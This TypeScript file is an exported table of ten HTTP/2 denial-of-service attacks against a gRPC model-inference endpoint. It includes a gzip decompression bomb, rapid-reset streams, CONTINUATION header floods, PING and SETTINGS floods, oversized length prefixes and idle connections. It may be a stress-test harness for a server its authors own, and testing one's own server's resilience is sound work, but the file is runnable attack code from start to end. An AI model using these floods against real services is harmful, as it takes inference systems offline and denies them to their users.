import { connect, constants } from 'node:http2'
import { gzipSync } from 'node:zlib'
import {
  CONTINUATION,
  DATA,
  END_HEADERS,
  flood,
  HEADERS,
  PING,
  SETTINGS,
  toFrame,
  toHeader,
  toHeaders,
} from './frames.ts'

const MEGABYTE = 1_000_000
const INFER = '/inference.GRPCInferenceService/ModelInfer'
const GRPC = {
  ':method': 'POST',
  ':path': INFER,
  'content-type': 'application/grpc',
  te: 'trailers',
}

/** Goes on by itself until its thread ends. */
type Attack = (target: URL) => unknown

const times = <T>(count: number, begin: (index: number) => T): T[] =>
  Array.from({ length: count }, (_, i) => begin(i))

interface Requests {
  readonly connections: number
  /** On each of them. */
  readonly each: number
  readonly body: Buffer
  readonly headers?: Record<string, string>
  /** Whether they come to their end, or are reset by the client. */
  readonly ends?: boolean
  readonly reset?: boolean
}

/** Requests of a client that keeps to the protocol, on some connections. */
function requests(
  target: URL,
  { connections, each, body, headers = {}, ends = false, reset = false }: Requests,
): void {
  times(connections, () => {
    const session = connect(target.href).on('error', () => undefined)
    times(each, () => {
      const stream = session.request({ ...GRPC, ...headers }).on('error', () => undefined)
      stream.resume().write(body)
      if (ends) stream.end()
      if (reset) stream.close(constants.NGHTTP2_CANCEL)
    })
  })
}

const framed = (message: Buffer, compressed = 0) => {
  const prefix = Buffer.alloc(5)
  prefix.writeUInt8(compressed)
  prefix.writeUInt32BE(message.length, 1)
  return Buffer.concat([prefix, message])
}
const bomb = framed(gzipSync(Buffer.alloc(200 * MEGABYTE)), 1)
const empty = (type: number, flags = 0) => toFrame({ type, flags, stream: 1 })
const begin = toFrame({ type: HEADERS, flags: END_HEADERS, stream: 1, payload: toHeaders(INFER) })
const many = (frame: Buffer) => Buffer.concat(times(1000, () => frame))
const floods = (count: number, load: Parameters<typeof flood>[1]) => (target: URL) =>
  Promise.all(times(count, () => flood(target, load)))

export const ATTACKS: Record<string, Attack> = {
  '20 connections of 100 messages that do not end': (target) =>
    requests(target, { connections: 20, each: 100, body: Buffer.alloc(60_000) }),
  '20 messages that are said to have 4 GB': (target) =>
    requests(target, { connections: 20, each: 1, body: Buffer.alloc(3 * MEGABYTE, 255) }),
  '20 messages that unfold to 200 MB': (target) =>
    requests(target, {
      ...{ connections: 20, each: 1, body: bomb, ends: true },
      headers: { 'grpc-encoding': 'gzip' },
    }),
  '5 connections of 5,000 requests that are reset at once': (target) =>
    requests(target, { connections: 5, each: 5000, body: framed(Buffer.alloc(0)), reset: true }),
  '10 connections of PING, 9 MB each': floods(10, {
    again: many(toFrame({ type: PING, payload: Buffer.alloc(8) })),
    bytes: 9 * MEGABYTE,
  }),
  '10 connections of SETTINGS, 9 MB each': floods(10, {
    again: many(toFrame({ type: SETTINGS, payload: Buffer.from([0, 4, 0, 0, 255, 255]) })),
    bytes: 9 * MEGABYTE,
  }),
  '10 connections of headers without an end, 20 MB each': floods(10, {
    first: toFrame({ type: HEADERS, stream: 1, payload: toHeaders(INFER) }),
    again: many(
      toFrame({ type: CONTINUATION, stream: 1, payload: toHeader('a', 'b'.repeat(100)) }),
    ),
    bytes: 20 * MEGABYTE,
  }),
  '10 connections of empty pieces of a body, 9 MB each': floods(10, {
    first: begin,
    again: many(empty(DATA)),
    bytes: 9 * MEGABYTE,
  }),
  '100 connections that send nothing but a preface': floods(100, {
    again: Buffer.alloc(0),
    bytes: 0,
  }),
  'bytes that are no HTTP/2': floods(20, { again: Buffer.alloc(65_536, 7), bytes: MEGABYTE }),
}
